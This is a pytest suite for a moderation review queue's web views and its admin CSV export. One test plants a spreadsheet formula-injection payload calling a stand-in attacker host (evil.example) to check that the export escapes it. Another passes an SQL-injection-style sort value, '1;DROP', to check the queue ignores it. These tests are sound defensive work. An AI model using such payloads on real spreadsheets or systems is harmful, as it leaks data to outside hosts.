"""The queue as a team uses it (``routes/queue.py``, ``queue/views.py``, ``navigation.py``): the flagged
backlog by default and the cleared cases one click away, counts under the filters, sortable columns,
first-seen days in the unit's time zone, the expert filter and the latest decision, messages for what
the queue could not read, and the admins' CSV export."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import update

from classifier.queue import CaseStore
from classifier.queue.schema import cases_table, runs_table
from classifier.review import times
from review.cases import ALL_CASES, RUN_ID, SALE_CLUSTER
from review.helpers import audits, hidden_inputs, links, listed, row_of, total

# the open cases the model flagged (score at or above the run's 0.5), and broken-1, which it could not score
FLAGGED_OPEN = {"hostile-1", *SALE_CLUSTER, "recruit-1", "near-1", "broken-1"}
CLEARED_OPEN = ALL_CASES - len(FLAGGED_OPEN)  # near-2, news-1 and the 60 fillers
SALE = ["hostile-1", "sale-1", "sale-2", "sale-3", "near-1"]  # category "sale", in the queue's order
ALMATY = ZoneInfo("Asia/Almaty")  # UTC+5 all year


def counts(html: str) -> dict[str, int]:
    """The status counts above the table."""
    found = re.findall(r'<span class="status status-(\w+)">[^<:]+: (\d+)</span>', html.split("<table")[0])
    return {status: int(n) for status, n in found}


def alerts(html: str) -> list[str]:
    return re.findall(r'<p class="message error" role="alert">([^<]*)</p>', html)


def set_times(store: CaseStore, ids: dict[str, int], column: str, moments: dict[str, str]) -> None:
    with store.engine.begin() as conn:
        for record, moment in moments.items():
            at = datetime.fromisoformat(moment).astimezone(UTC)
            conn.execute(update(cases_table).where(cases_table.c.id == ids[record]).values({column: at}))


# -- the flagged backlog --


def test_the_default_queue_is_the_open_cases_the_model_flagged(
    view_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    client = view_as("boris")
    html = client.get("/queue").text
    assert set(listed(html, ids)) == FLAGGED_OPEN  # broken-1, unscored, is with them: it needs a look
    assert total(html) == len(FLAGGED_OPEN)
    assert f"Показать ещё {CLEARED_OPEN} дела, не отмеченных моделью" in html
    [cleared] = [link for link in links(html) if "flagged=no" in link]
    assert cleared == "/queue?flagged=no"
    shown = client.get(cleared).text  # one click away
    assert total(shown) == CLEARED_OPEN
    assert {"near-2", "news-1"} <= set(listed(shown, ids)) and not FLAGGED_OPEN & set(listed(shown, ids))
    assert "Показать ещё 7 дел, отмеченных моделью или без оценки" in shown
    assert '<option value="no" selected>' in shown
    assert total(client.get("/queue", params={"flagged": "all"}).text) == ALL_CASES


def test_the_flag_follows_the_threshold_of_the_run_that_scored_the_case(
    open_as: Callable[..., TestClient], ids: dict[str, int], store: CaseStore
) -> None:
    with store.engine.begin() as conn:
        conn.execute(update(runs_table).where(runs_table.c.run_id == RUN_ID).values(threshold=0.9))
    client = open_as("boris")
    assert set(listed(client.get("/queue").text, ids)) == {"hostile-1", *SALE_CLUSTER, "broken-1"}
    assert {"recruit-1", "near-1"} <= set(listed(client.get("/queue?flagged=no").text, ids))


def test_next_keeps_the_flag_filter(open_as: Callable[..., TestClient], ids: dict[str, int]) -> None:
    client = open_as("boris")
    assert 'name="flagged" value="no"' in client.get("/queue?flagged=no").text  # the "next" form carries it
    moved = client.get("/next", params={"flagged": "no"}).headers["location"]
    assert moved == f"/cases/{ids['near-2']}?flagged=no"  # the most urgent case the model did not flag
    after = client.get(f"/next?flagged=no&after={ids['near-2']}").headers["location"]
    assert after == f"/cases/{ids['news-1']}?flagged=no&skip={ids['near-2']}"
    assert client.get("/next").headers["location"] == f"/cases/{ids['hostile-1']}"


def test_other_statuses_list_every_case_unless_asked(view_as: Callable[..., TestClient]) -> None:
    client = view_as("boris")
    assert total(client.get("/queue", params={"status": "all"}).text) == ALL_CASES
    assert total(client.get("/queue", params={"status": "all", "flagged": "yes"}).text) == len(FLAGGED_OPEN)
    assert total(client.get("/queue", params={"status": "new", "flagged": "no"}).text) == CLEARED_OPEN


# -- the counts --


def test_the_status_counts_count_what_the_other_filters_select(
    open_as: Callable[..., TestClient], ids: dict[str, int], store: CaseStore
) -> None:
    store.record_decision(ids["sale-1"], "confirmed", "vera")
    client = open_as("boris")
    for status in ("open", "confirmed", "all"):  # the counts are by status: the status filter is not theirs
        html = client.get("/queue", params={"status": status, "q": "snow"}).text
        assert counts(html) == {"new": 2, "pending": 0, "confirmed": 1, "rejected": 0, "unsure": 0}
    default = counts(client.get("/queue").text)  # the flagged cases only
    assert default == {"new": len(FLAGGED_OPEN) - 1, "pending": 0, "confirmed": 1, "rejected": 0, "unsure": 0}
    assert counts(client.get("/queue", params={"flagged": "all"}).text)["new"] == ALL_CASES - 1
    assert counts(client.get("/queue", params={"language": "mixed"}).text)["new"] == 1


# -- sorting --


@pytest.mark.parametrize(
    ("sort", "order", "expected"),
    [
        ("", "", SALE),  # the queue's priority order
        ("score", "desc", ["hostile-1", "sale-1", "sale-2", "sale-3", "near-1"]),
        ("score", "asc", ["near-1", "sale-3", "sale-2", "sale-1", "hostile-1"]),
        ("copies", "desc", ["sale-1", "sale-2", "sale-3", "hostile-1", "near-1"]),  # ties: priority order
        ("copies", "asc", ["hostile-1", "near-1", "sale-1", "sale-2", "sale-3"]),
        ("first_seen", "asc", ["sale-3", "near-1", "hostile-1", "sale-2", "sale-1"]),
        ("first_seen", "desc", ["sale-1", "sale-2", "hostile-1", "near-1", "sale-3"]),
        ("last_seen", "asc", ["sale-2", "sale-1", "hostile-1", "sale-3", "near-1"]),
        ("last_seen", "desc", ["near-1", "sale-3", "hostile-1", "sale-1", "sale-2"]),
        ("status", "asc", ["hostile-1", "sale-1", "sale-3", "near-1", "sale-2"]),  # new, confirmed, rejected
        ("status", "desc", ["sale-2", "near-1", "hostile-1", "sale-1", "sale-3"]),
        ("bogus", "desc", SALE),
    ],
)
def test_the_columns_sort_the_queue(
    sort: str,
    order: str,
    expected: list[str],
    open_as: Callable[..., TestClient],
    ids: dict[str, int],
    store: CaseStore,
) -> None:
    first = {"sale-3": "01", "near-1": "02", "hostile-1": "03", "sale-2": "04", "sale-1": "05"}
    last = {"sale-2": "06", "sale-1": "07", "hostile-1": "08", "sale-3": "09", "near-1": "10"}
    set_times(store, ids, "first_seen", {r: f"2026-11-{d}T10:00:00+00:00" for r, d in first.items()})
    set_times(store, ids, "last_seen", {r: f"2026-11-{d}T10:00:00+00:00" for r, d in last.items()})
    store.record_decision(ids["sale-2"], "rejected", "vera")
    store.record_decision(ids["near-1"], "confirmed", "vera")
    html = open_as("boris").get(
        "/queue", params={"status": "all", "category": "sale", "sort": sort, "order": order}
    )
    assert html.status_code == 200
    assert listed(html.text, ids) == expected


def test_the_sort_is_carried_by_page_links_and_the_filter_form_but_not_by_next(
    make_app: Callable[..., FastAPI], open_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    client = open_as("boris", on=make_app(per_page=5))
    params = {"status": "all", "sort": "score", "order": "asc"}
    html = client.get("/queue", params=params).text
    assert listed(html, ids)[:1] == ["filler-0"]  # broken-1, unscored, is last either way
    following = [link for link in links(html) if "page=2" in link]
    assert following == ["/queue?status=all&sort=score&order=asc&page=2"]
    assert listed(client.get(following[0]).text, ids) == [f"filler-{i}" for i in range(5, 10)]
    form = html.split('<form class="filters"')[1].split("</form>")[0]
    assert hidden_inputs(form) == {"sort": "score", "order": "asc"}
    headers = [link for link in links(html) if "sort=" in link and "page=" not in link]
    assert "/queue?status=all&sort=score&order=desc" in headers  # the sorted column: the other way round
    assert "/queue?status=all&sort=copies&order=desc" in headers
    assert "/queue?status=all" in links(html)  # back to the priority order
    assert 'aria-sort="ascending"' in html
    # "next" keeps the filters and the order for the way back, but offers the most urgent case
    moved = client.get("/next", params=params).headers["location"]
    assert moved == f"/cases/{ids['hostile-1']}?status=all&sort=score&order=asc"


# -- dates and experts --


def test_the_first_seen_days_are_the_units_days(
    make_app: Callable[..., FastAPI], open_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    app = make_app(time_zone="Asia/Almaty", per_page=100)
    store = app.state.store
    set_times(store, ids, "first_seen", {record: "2026-10-01T00:00:00+00:00" for record in ids})
    set_times(
        store,
        ids,
        "first_seen",
        {
            "sale-1": "2026-11-19T18:59:00+00:00",  # 19.11 23:59 in Almaty
            "sale-2": "2026-11-19T19:00:00+00:00",  # 20.11 00:00 in Almaty
            "sale-3": "2026-11-20T18:59:59+00:00",  # 20.11 23:59 in Almaty
            "near-1": "2026-11-20T19:00:00+00:00",  # 21.11 00:00 in Almaty
        },
    )
    client = open_as("boris", on=app)

    def found(**params: str) -> set[str]:
        html = client.get("/queue", params={"status": "all", **params}).text
        assert not alerts(html), alerts(html)
        return set(listed(html, ids))

    assert found(seen_from="2026-11-20") == {"sale-2", "sale-3", "near-1"}
    assert found(seen_to="2026-11-19") == set(ids) - {"sale-2", "sale-3", "near-1"}
    assert found(seen_from="2026-11-20", seen_to="2026-11-20") == {"sale-2", "sale-3"}  # the whole day
    assert found(seen_from="20.11.2026", seen_to="20.11.2026") == {"sale-2", "sale-3"}  # as people write it
    html = client.get("/queue", params={"seen_from": "2026-11-20"}).text
    assert 'name="seen_from" type="date" value="2026-11-20"' in html
    assert (
        "seen_from=2026-11-20" in client.get("/next", params={"seen_from": "2026-11-20"}).headers["location"]
    )


def test_the_expert_filter_and_the_latest_decision(
    make_app: Callable[..., FastAPI], open_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    app = make_app(confirmations_required=2)
    store = app.state.store
    store.record_decision(ids["sale-1"], "confirmed", "boris")
    store.record_decision(ids["sale-1"], "confirmed", "vera")
    store.record_decision(ids["near-1"], "rejected", "vera")
    client = open_as("boris", on=app)
    html = client.get("/queue", params={"status": "all", "expert": "boris"}).text
    assert listed(html, ids) == ["sale-1"]  # a decision of boris's, even if not the latest
    assert listed(client.get("/queue", params={"status": "all", "expert": "vera"}).text, ids) == [
        "sale-1",
        "near-1",
    ]
    assert '<option value="boris" >boris</option>' in html.replace("selected", "")
    assert '<option value="vera" >vera</option>' in html
    assert '<option value="anna"' not in html  # decided nothing
    assert total(client.get("/queue", params={"status": "all", "expert": "nobody"}).text) == 0
    row = row_of(html, ids["sale-1"])
    decided = store.case(ids["sale-1"])["decisions"][-1]["decided_at"]
    assert "нарушение подтверждено" in row and "vera" in row and times.local(decided, ALMATY) in row
    assert '<td class="decision">—</td>' in row_of(client.get("/queue").text, ids["hostile-1"])


# -- what the queue could not read --


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({"min_score": "abc"}, "Не удалось понять значение «abc»"),
        ({"min_score": "-5"}, "нужно число от 0 до 100, а не «-5»"),
        ({"min_score": "200"}, "нужно число от 0 до 100, а не «200»"),
        ({"min_score": "NaN"}, "Не удалось понять значение «NaN»"),
        ({"min_score": "inf"}, "Не удалось понять значение «inf»"),
        ({"seen_from": "abc"}, "Не удалось понять дату «abc»: нужна дата вида 20.11.2026 в поле «Впервые с»"),
        ({"seen_to": "2026-13-01"}, "Не удалось понять дату «2026-13-01»"),
        ({"seen_to": "31.02.2026"}, "Не удалось понять дату «31.02.2026»"),
        ({"seen_from": "0001-01-01"}, "Дата 01.01.0001 вне допустимого диапазона"),
        ({"seen_from": "2026-11-21", "seen_to": "2026-11-20"}, "Дата «по» (20.11.2026) раньше даты «с»"),
    ],
)
def test_a_value_the_queue_cannot_read_is_said_and_left_out(
    params: dict[str, str], said: str, view_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    response = view_as("boris").get("/queue", params=params)
    assert response.status_code == 200
    [alert] = alerts(response.text)
    assert said in alert
    assert "Очередь показана без" in alert or "очередь показана без" in alert
    assert set(listed(response.text, ids)) == FLAGGED_OPEN  # the queue without that filter
    assert f'value="{next(iter(params.values()))}"' in response.text  # the field keeps what was typed


def test_a_page_beyond_the_last_shows_the_last(
    make_app: Callable[..., FastAPI], open_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    client = open_as("boris", on=make_app(per_page=5))
    response = client.get("/queue", params={"page": 999})
    assert response.status_code == 200
    assert alerts(response.text) == ["Страницы 999 нет: последняя по этим условиям — 2-я, она и показана."]
    assert listed(response.text, ids) == ["near-1", "broken-1"]
    assert "Страница 2 из 2." in response.text
    assert not alerts(client.get("/queue", params={"page": 2}).text)


@pytest.mark.parametrize("params", [{"sort": "1;DROP"}, {"order": "sideways"}, {"flagged": "maybe"}])
def test_unknown_orders_and_flags_are_the_default_queue(
    params: dict[str, str], view_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    html = view_as("boris").get("/queue", params=params).text
    assert listed(html, ids) == listed(view_as("boris").get("/queue").text, ids)


def test_the_next_button_has_an_access_key(view_as: Callable[..., TestClient]) -> None:
    assert 'id="next-case" accesskey="4"' in view_as("boris").get("/queue").text


# -- the CSV export --


def read_csv(response: Any) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode())  # Excel then reads UTF-8, not Windows-1251
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_admins_export_the_filtered_queue_as_csv(
    open_as: Callable[..., TestClient], ids: dict[str, int], store: CaseStore
) -> None:
    store.record_decision(ids["sale-1"], "confirmed", "vera")
    anna = open_as("anna")
    page = anna.get("/queue", params={"status": "all", "category": "sale", "sort": "score", "order": "asc"})
    [export] = [link for link in links(page.text) if link.startswith("/admin/queue.csv")]
    assert export == "/admin/queue.csv?status=all&category=sale&sort=score&order=asc"
    response = anna.get(export)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    header, *rows = read_csv(response)
    assert header[:4] == ["Дело", "Адрес", "Заголовок", "Вероятность нарушения, %"]
    assert header[8] == "Впервые (Алматы, UTC+5)"
    assert [int(row[0]) for row in rows] == [ids[r] for r in reversed(SALE)]  # the page's order
    sale = next(row for row in rows if int(row[0]) == ids["sale-1"])
    case = store.case(ids["sale-1"])
    assert sale[1:9] == [
        "https://snow-shop.example/catalog",
        "Страница sale-1",
        "97,0",
        "да",
        "сбыт",
        "русский",
        "нарушение подтверждено",
        times.local(case["first_seen"], ALMATY),
    ]
    assert sale[10:12] == ["нарушение подтверждено", "vera"]
    assert sale[12] == times.local(case["decisions"][-1]["decided_at"], ALMATY)
    [entry] = audits(store, "export")
    assert entry["actor"] == "anna"
    assert entry["detail"]["rows"] == len(SALE)
    assert entry["detail"]["filters"]["category"] == "sale"


def test_the_csv_export_keeps_formulas_as_text(
    open_as: Callable[..., TestClient], ids: dict[str, int], store: CaseStore
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1, "открыть")'
    with store.engine.begin() as conn:
        values = {"title": formula, "url": "-2+3", "category": "@sum"}
        conn.execute(update(cases_table).where(cases_table.c.id == ids["near-2"]).values(values))
    _, *rows = read_csv(open_as("anna").get("/admin/queue.csv", params={"flagged": "no", "q": "HYPERLINK"}))
    [row] = rows
    assert row[1:3] == ["'-2+3", "'" + formula]
    assert row[5] == "'@sum"
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_experts_cannot_export_the_queue(
    open_as: Callable[..., TestClient], ids: dict[str, int], store: CaseStore
) -> None:
    boris = open_as("boris")
    assert "/admin/queue.csv" not in boris.get("/queue").text
    response = boris.get("/admin/queue.csv", params={"status": "all"})
    assert response.status_code == 403
    assert "только администраторам" in response.text and "snow-shop" not in response.text
    assert audits(store, "export") == []


def test_the_export_reads_the_filters_as_the_page_does(
    open_as: Callable[..., TestClient], ids: dict[str, int], store: CaseStore
) -> None:
    anna = open_as("anna")
    _, *rows = read_csv(anna.get("/admin/queue.csv"))
    assert {int(row[0]) for row in rows} == {ids[r] for r in FLAGGED_OPEN}
    _, *rows = read_csv(anna.get("/admin/queue.csv", params={"min_score": "abc", "seen_from": "x"}))
    assert len(rows) == len(FLAGGED_OPEN)  # what the page could not read, the export leaves out too
    assert [e["detail"]["rows"] for e in audits(store, "export")] == [len(FLAGGED_OPEN)] * 2
